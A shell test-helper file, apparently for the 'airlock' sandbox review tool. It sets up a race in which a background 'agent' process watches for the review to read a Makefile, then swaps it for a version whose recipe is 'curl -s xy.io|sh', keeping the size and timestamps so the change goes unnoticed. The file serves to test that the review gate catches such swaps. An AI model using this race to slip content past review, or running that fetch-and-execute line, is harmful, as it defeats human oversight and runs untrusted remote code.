# Shared by this round (sourced after ../lib.sh): a small direct-mode
# project (mkproj), review into $T/review.json (rv), what review's own
# snapshot holds for a path (snapblob), and the armed agent (arm): a
# program in the sandbox that keeps a tracked file at its reviewed content
# A (same size as B, mtime put back to 2001) and, the moment review reads
# it (the file's atime moves: statx with AT_STATX_FORCE_SYNC, past the
# FUSE attribute cache), writes B in the same second as A's ctime.
A_TXT='all:
	echo building-ok
'
B_TXT='all:
	curl -s xy.io|sh
'
mkproj() {
	git init -q "$T/repo" && cd "$T/repo" || exit 2
	printf '%s' "$A_TXT" > Makefile; printf 'package main\nfunc main() {}\n' > main.go
	echo "a small project" > README.md
}
rv() { timeout "${2:-120}" airlock review "$N" --json >"$T/review.json" 2>"$T/review.err"; echo "review rc=$?"; grep -v '^$' "$T/review.err" | tail -2; }
listed() { python3 -c 'import json,sys; print(" ".join(sorted(f["path"] for f in json.load(open(sys.argv[1])).get("files") or [])))' "$T/review.json"; }
snapshot() { python3 -c 'import json,sys; print(json.load(open(sys.argv[1])).get("snapshot",""))' "$T/review.json"; }
# snapblob PATH: the content review's snapshot holds for PATH
snapblob() { git --git-dir="$AIRLOCK_HOME/sandboxes/$N/review/git" show "$(snapshot):$1" 2>/dev/null; }
AGENT_PY='
import os, time, ctypes, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
def sx(p):
    b = ctypes.create_string_buffer(256)
    if libc.statx(-100, p.encode(), 0x2000, 0x7ff, b) != 0: raise OSError(ctypes.get_errno(), p)
    return struct.unpack_from("<qI", b, 64), struct.unpack_from("<qI", b, 96)
p, A, B, dur = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode(), float(sys.argv[4])
assert len(A) == len(B)
def w(s):
    fd = os.open(p, os.O_WRONLY | os.O_TRUNC); os.write(fd, s); os.close(fd)
    os.utime(p, (1000000000, 1000000000))
end = time.time() + dur
while time.time() < end:
    time.sleep(1.02 - time.time() % 1)
    w(A); at0, ct0 = sx(p)
    while time.time() % 1 < 0.80:
        at, ct = sx(p)
        if at != at0:
            w(B); _, ct2 = sx(p)
            print("agent: read seen, B written; A ctime %d.%09d, B ctime %d.%09d" % (ct0 + ct2), flush=True)
            sys.exit(0 if ct2[0] == ct0[0] else 3)
        time.sleep(0.002)
print("agent: no read seen", flush=True); sys.exit(4)
'
# arm PATH: runs the racer on PATH in the background (AP), for 12 s. It
# ran inside the sandbox until the workspace gate stopped passing the
# host's atime through (round ignwalk/08: the agent can no longer see
# review read a file); it runs on the host now, on the folder itself (the
# user saving a file in that second, or an agent that wins the race by
# chance), so the same-second rewrite stays under test.
arm() {
	python3 -c "$AGENT_PY" "$T/repo/$1" "$A_TXT" "$B_TXT" 12 >"$T/agent.log" 2>&1 & AP=$!
}
# race PATH: arm, review while armed, until the agent saw review read PATH
# and wrote B in A's second (3 tries; exit 2 if it never does).
race() {
	local i
	for i in 1 2 3; do
		arm "$1"; sleep 2.3; rv >/dev/null; wait "$AP"; local rc=$?; cat "$T/agent.log"
		[ "$rc" = 0 ] && return
	done
	echo "agent never won the race: setup"; exit 2
}
